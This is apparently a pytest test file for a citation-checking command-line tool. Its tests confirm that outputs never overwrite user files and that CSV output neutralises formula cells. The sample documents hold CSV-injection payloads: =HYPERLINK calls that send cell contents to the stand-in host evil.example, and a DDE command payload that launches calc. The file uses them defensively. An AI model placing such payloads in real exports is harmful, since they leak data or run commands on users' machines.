"""No user file is changed: outputs into FIFOs, outputs naming the input, a cache "directory" that is a file;
and no CSV cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
import os
import stat
import threading
from pathlib import Path

import pytest
from typer.testing import CliRunner

from citecheck.cli import app
from citecheck.report.csvout import FORMULA_TRIGGERS, neutralise_csv_cell

DOC = """# Results

=HYPERLINK("http://evil.example/?"&A1) shows tidal rhythms [1]. +cmd|' /C calc'!A0 says more [2].

## =SUM(A1:A9)

@SUM(1+1) is also cited [1, 2].

## References

1. =HYPERLINK("http://evil.example") Hollis M, Okafor C. Tidal rhythms in the foraging of crabs. J Coast Ecol. 2015;12(3):201-215.
2. -2+3 Lindqvist J. Measuring citation accuracy. In: Handbook of Scholarly Metadata. 2018. p. 45-67.
"""


def env(tmp_path: Path) -> dict[str, str]:
    return {"CITECHECK_INDEX": "", "XDG_DATA_HOME": str(tmp_path / "data"), "CITECHECK_OFFLINE": "1",
            "CITECHECK_CACHE_DIR": str(tmp_path / "cache"), "CITECHECK_MAILTO": "t@example.org"}


def run(tmp_path: Path, *args: str):
    return CliRunner().invoke(app, list(args), env=env(tmp_path))


@pytest.fixture
def doc(tmp_path: Path) -> Path:
    p = tmp_path / "paper.md"
    p.write_text(DOC, encoding="utf-8")
    return p


def test_output_into_a_fifo_writes_into_it_and_keeps_the_fifo(tmp_path: Path, doc: Path) -> None:
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    got: list[bytes] = []
    reader = threading.Thread(target=lambda: got.append(fifo.read_bytes()), daemon=True)
    reader.start()
    result = run(tmp_path, "refs", str(doc), "-f", "json", "-o", str(fifo))
    reader.join(10)
    assert result.exit_code == 0, result.stderr
    assert stat.S_ISFIFO(os.stat(fifo).st_mode), "the FIFO was replaced by a regular file"
    assert b'"references"' in got[0] or b"Hollis" in got[0]


def test_output_through_a_symlink_replaces_the_target_and_keeps_the_link(tmp_path: Path, doc: Path) -> None:
    target = tmp_path / "real.json"
    target.write_text("old")
    link = tmp_path / "link.json"
    link.symlink_to(target)
    result = run(tmp_path, "refs", str(doc), "-f", "json", "-o", str(link))
    assert result.exit_code == 0, result.stderr
    assert link.is_symlink() and "Hollis" in target.read_text()


@pytest.mark.parametrize("how", ["same path", "hard link", "symlink", "relative alias"])
@pytest.mark.parametrize("command", ["check", "refs", "claims", "bib -o", "bib --changes"])
def test_an_output_naming_the_input_document_is_refused(tmp_path: Path, doc: Path, how: str, command: str) -> None:
    alias = {"same path": doc, "hard link": tmp_path / "alias.md", "symlink": tmp_path / "link.md",
             "relative alias": tmp_path / "sub" / ".." / "paper.md"}[how]
    (tmp_path / "sub").mkdir()
    if how == "hard link":
        os.link(doc, alias)
    elif how == "symlink":
        alias.symlink_to(doc)
    before = doc.read_bytes()
    args = {"check": ["check", str(doc), "-o", str(alias), "--no-support"],
            "refs": ["refs", str(doc), "-f", "json", "-o", str(alias)],
            "claims": ["claims", str(doc), "-f", "csv", "-o", str(alias)],
            "bib -o": ["bib", str(doc), "-o", str(alias)],
            "bib --changes": ["bib", str(doc), "-o", str(tmp_path / "out.bib"), "--changes", str(alias)]}[command]
    result = run(tmp_path, *args)
    assert result.exit_code == 2, (result.exit_code, result.stderr)
    assert "input document" in result.stderr and result.stderr.count("citecheck: error:") == 1
    assert "refusing to overwrite" in result.stderr
    assert doc.read_bytes() == before


@pytest.mark.parametrize("name", ["notes.txt", "notes", "thesis.sqlite"])
def test_a_cache_dir_naming_a_file_is_refused(tmp_path: Path, doc: Path, name: str) -> None:
    victim = tmp_path / name
    victim.write_bytes(b"my notes, not a cache\n")
    result = CliRunner().invoke(app, ["check", str(doc), "--cache-dir", str(victim), "--no-support", "-f", "json"],
                                env={**env(tmp_path), "CITECHECK_CACHE_DIR": ""})
    assert result.exit_code == 2, (result.exit_code, result.stderr)
    assert "not a directory" in result.stderr
    assert victim.read_bytes() == b"my notes, not a cache\n"
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(name)) == [name]
    for sub in (["cache", "info", "--cache-dir", str(victim)], ["cache", "clear", "--cache-dir", str(victim)]):
        result = CliRunner().invoke(app, sub, env=env(tmp_path))
        assert result.exit_code == 2, (sub, result.stderr)
        assert victim.read_bytes() == b"my notes, not a cache\n"


# ---------------------------------------------------------------- CSV injection


def assert_no_formula(text: str) -> None:
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) > 1
    for row in rows:
        for cell in row:
            assert not cell.lstrip(" ").startswith(FORMULA_TRIGGERS), cell


def test_claims_csv_has_no_formula_cell(tmp_path: Path, doc: Path) -> None:
    result = run(tmp_path, "claims", str(doc), "-f", "csv")
    assert result.exit_code == 0, result.stderr
    assert_no_formula(result.stdout)
    assert "'=HYPERLINK" in result.stdout or "'=SUM" in result.stdout


def test_match_csv_has_no_formula_cell(tmp_path: Path) -> None:
    lines = tmp_path / "refs.txt"
    lines.write_text('=HYPERLINK("http://evil.example") Hollis M. Tidal rhythms. J Coast Ecol. 2015;12:201-215.\n'
                     "-2+3 Lindqvist J. Measuring citation accuracy. 2018.\n@SUM(A1) Vogt L. Trigram indexes. 2020.\n",
                     encoding="utf-8")
    result = run(tmp_path, "match", str(lines), "--lines", "-f", "csv")
    assert result.exit_code == 0, result.stderr
    assert_no_formula(result.stdout)
    assert "'=HYPERLINK" in result.stdout


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@x", "\t=1", "\r=1", " =1", "\uff1d1", "\n=1"])
def test_neutralise_csv_cell(cell: str) -> None:
    assert neutralise_csv_cell(cell).startswith("'")


@pytest.mark.parametrize("cell", ["Hollis M", "2015", "1.0", "", "a=b", "10.5555/x"])
def test_plain_cells_are_unchanged(cell: str) -> None:
    assert neutralise_csv_cell(cell) == cell


def test_output_into_a_terminal_device_writes_into_it(tmp_path: Path, doc: Path) -> None:
    """A character device (here a pseudo-terminal) is written into, never replaced by a regular file."""
    import select

    master, slave = os.openpty()
    try:
        name = os.ttyname(slave)
        result = run(tmp_path, "refs", str(doc), "-f", "json", "-o", name)
        assert result.exit_code == 0, result.stderr
        assert stat.S_ISCHR(os.stat(name).st_mode)
        got = b""
        while select.select([master], [], [], 0.5)[0]:
            chunk = os.read(master, 65536)
            if not chunk:
                break
            got += chunk
        assert b"Hollis" in got
    finally:
        os.close(master)
        os.close(slave)


def test_a_report_over_the_index_of_the_same_run_is_refused(tmp_path: Path, doc: Path) -> None:
    from tests.reliability_docs import build_index, make_works

    idx = tmp_path / "index.sqlite"
    build_index(idx, make_works(2)).close()
    before = idx.read_bytes()
    result = run(tmp_path, "check", str(doc), "--index", str(idx), "-f", "json", "-o", str(idx), "--no-support")
    assert result.exit_code == 2 and "refusing to overwrite" in result.stderr, result.stderr
    assert idx.read_bytes() == before
